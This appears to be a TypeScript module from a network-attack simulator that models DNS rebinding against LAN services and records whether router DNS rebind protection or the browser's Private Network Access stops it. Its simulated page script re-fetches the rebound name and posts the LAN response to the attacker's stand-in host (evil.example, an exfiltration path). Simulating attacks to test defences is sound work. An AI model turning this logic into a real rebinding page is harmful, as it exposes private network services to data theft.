// dns-rebinding (SCENARIOS.md, SEMANTICS.md §6.3): the user of a LAN host opens http://evil.example/, whose page
// embeds http://evil.example:PORT/ (Mallory serves it on the target's port, so the rebound name stays one origin).
// Mallory's authoritative DNS answered the first lookup with Mallory's address and a 1-second TTL; once the
// browser's cache runs out the page's script fetches http://evil.example:PORT/ again, the name now resolves to the
// LAN service, and the same-origin policy lets the script read the answer and post it to Mallory. Breached when
// the LAN service's response body arrives at Mallory. Stopped by the router's resolver refusing upstream answers
// that point into private ranges (dnsmasq --stop-dns-rebind) or by the browser's Private Network Access check.

import type { Network } from "../model/index.js";
import { Browser, FETCH_BAD_PORTS } from "../sim/services/browser.js";
import type { FetchOutcome, PageContext } from "../sim/services/browser.js";
import type { Attack, AttackPlan, AttackRun, PlanResult, RunOptions, StoppedBy } from "./attack.js";
import { formatTarget } from "./attack.js";
import { browsingHosts, castFor, runFor } from "./actors/cast.js";
import { attackerOf, finishRun, routerOfLan, setupError } from "./attack-run.js";
import { EXFIL_PATH, MALLORY_PAGE, REBIND_TTL_SECONDS, startRebindingServer } from "./actors/rebinding-web.js";
import { routerSettingAt, startDnsResolver, stopAt } from "./actors/router-services.js";
import { formatIpv4 } from "../wire/address.js";

export const ID = "dns-rebinding";

/** The script waits this long past the TTL before asking again, as rebinding toolkits poll. */
const REBIND_WAIT_MS = REBIND_TTL_SECONDS * 1000 + 500;
/** Landing, frame, the wait, the rebound fetch and the post all fit. */
const RUN_MS = 6000;

/** Browser defences the run can switch on (the model has no per-host browser settings). */
export interface BrowserDefences {
  /** WICG Private Network Access: a public page may not reach a private address. */
  readonly privateNetworkAccess?: boolean;
}

function plan(network: Network): PlanResult {
  const m = attackerOf(network);
  if (m === null) return { plans: [], notApplicable: "no internet host is marked attacker" };
  if (m.domains.length === 0) return { plans: [], notApplicable: `${m.name} is authoritative for no domain` };
  const plans: AttackPlan[] = [];
  for (const f of browsingHosts(network)) {
    const router = routerOfLan(network, f.lan);
    for (const t of network.hosts) {
      if (t.name === f.name || routerOfLan(network, t.lan) !== router) continue;
      for (const s of t.services)
        if (s.proto === "tcp" && !FETCH_BAD_PORTS.has(s.port))
          plans.push({ foothold: f.name, target: { node: t.name, port: s.port, proto: "tcp" } });
    }
  }
  if (plans.length === 0)
    return { plans, notApplicable: "no browsing LAN host, or no LAN service a browser may fetch from" };
  return { plans };
}

function describe(r: FetchOutcome | null): string {
  if (r === null) return "never finished";
  switch (r.kind) {
    case "response":
      return `HTTP ${r.status} from ${r.address}${r.readable ? "" : " (opaque)"}`;
    case "blocked":
      return `blocked by the browser: ${r.detail}`;
    case "dns-failure":
      return `DNS failure: ${r.detail}`;
    case "network-error":
      return `network error: ${r.detail}`;
  }
}

export function runDnsRebinding(
  network: Network,
  p: AttackPlan,
  opts: RunOptions,
  defences: BrowserDefences = {},
): AttackRun {
  const built = castFor(network, p.foothold, { seed: opts.seed });
  if (!built.ok) return setupError(built.error);
  const cast = built.cast;
  const { twin, mallory, foothold, router } = cast;
  const attacker = attackerOf(network);
  const domain = attacker?.domains[0];
  if (domain === undefined) return setupError("the attacker is authoritative for no domain");
  const targetHost = network.hosts.find((h) => h.name === p.target.node);
  if (targetHost === undefined) return setupError(`no LAN host named ${p.target.node}`);
  const victim = formatIpv4(targetHost.address);
  const port = p.target.port;
  const gateway = router.lans.find((l) => l.lan === foothold.host.lan);
  if (gateway === undefined) return setupError(`router ${router.name} has no interface on ${foothold.host.lan}`);

  const server = startRebindingServer(cast, domain, victim, port);
  // The LAN's DNS server is the router when it runs one; otherwise the authoritative answers reach the host as
  // they would through a resolver that does no rebind filtering.
  const resolver = startDnsResolver(twin, router, mallory.address);
  const browser = new Browser(foothold.node, {
    clock: twin.sim.clock,
    resolver: resolver !== null ? formatIpv4(gateway.address) : mallory.address,
    privateNetworkAccess: defences.privateNetworkAccess ?? false,
  });

  const landing = `http://${domain}/`;
  const frame = `http://${domain}:${port}/`;
  let rebound: FetchOutcome | null = null;
  let posted: FetchOutcome | null = null;
  const rebindScript = (page: PageContext): void => {
    page.after(REBIND_WAIT_MS, () => {
      page.fetch(frame, (r) => {
        rebound = r;
        if (r.kind !== "response" || r.body === null) return;
        // A simple cross-origin POST: sent without a preflight; its answer stays opaque, which Mallory does not need.
        page.post(`http://${mallory.address}${EXFIL_PATH}`, r.body, (x) => {
          posted = x;
        });
      });
    });
  };
  browser.visit(landing, () => {
    browser.visit(frame, rebindScript);
  });
  runFor(twin, RUN_MS);

  const target = formatTarget(p.target);
  const foreign = server.exfiltrated.filter((e) => e.body !== MALLORY_PAGE);
  const got = rebound as FetchOutcome | null;
  const details = {
    domain,
    dnsQueries: server.dns.queries.length,
    rebound: describe(got),
    post: describe(posted),
    exfiltrated: foreign.map((e) => e.body),
    rebindEvents: resolver?.rebindEvents.map((e) => e.message) ?? [],
    browserLog: browser.log.map((e) => `${e.timeMs.toFixed(1)} ms ${e.what}: ${e.detail}`),
    privateNetworkAccess: defences.privateNetworkAccess ?? false,
  };
  const base = { attack: ID, capability: "web-visitor" as const, target, foothold: foothold.name };
  const note =
    "The browser is modelled with a per-name DNS cache honouring the TTL, the same-origin policy, the Fetch " +
    "bad-port list and (optionally) Private Network Access; DNS pinning, Local Network Access prompts and Host " +
    "header checks on the target are not modelled. The router's resolver asks Mallory's authoritative server " +
    "directly (the recursion through the DNS hierarchy is not modelled).";
  if (foreign.length > 0)
    return finishRun(twin, opts, {
      ...base,
      outcome: "breached",
      stoppedBy: null,
      evidence:
        `${foothold.name}'s browser opened ${landing}; after ${REBIND_TTL_SECONDS} s ${domain} resolved to ${victim}, ` +
        `the page read ${target}'s answer (${describe(got)}) and posted it to Mallory: ` +
        `${JSON.stringify(foreign[0].body.slice(0, 60))} arrived at ${mallory.address}${EXFIL_PATH}`,
      note,
      details,
    });

  let stoppedBy: StoppedBy | null = null;
  let why: string;
  if (resolver !== null && resolver.rebindEvents.length > 0) {
    stoppedBy = stopAt(network, router.name, "dns", routerSettingAt(network, router, ["dns", "rebind_protection"]));
    why = `the router's resolver emptied the answer ${domain} -> ${resolver.rebindEvents[0].address} ("${resolver.rebindEvents[0].message}")`;
  } else if (got?.kind === "blocked") {
    stoppedBy = { node: foothold.name, layer: "service", rule: `browser: ${got.reason}`, text: got.detail };
    why = `the browser refused the rebound fetch (${got.detail})`;
  } else {
    why = `the rebound fetch of ${frame}: ${describe(got)}`;
  }
  return finishRun(twin, opts, {
    ...base,
    outcome: "blocked",
    stoppedBy,
    evidence: `nothing of ${target} reached Mallory: ${why}`,
    note,
    details,
  });
}

export const dnsRebinding: Attack = {
  id: ID,
  capability: "web-visitor",
  summary: "a web page's script re-resolves its own name to a LAN address and reads a LAN web service",
  plan,
  run: (network, p, opts) => runDnsRebinding(network, p, opts),
};
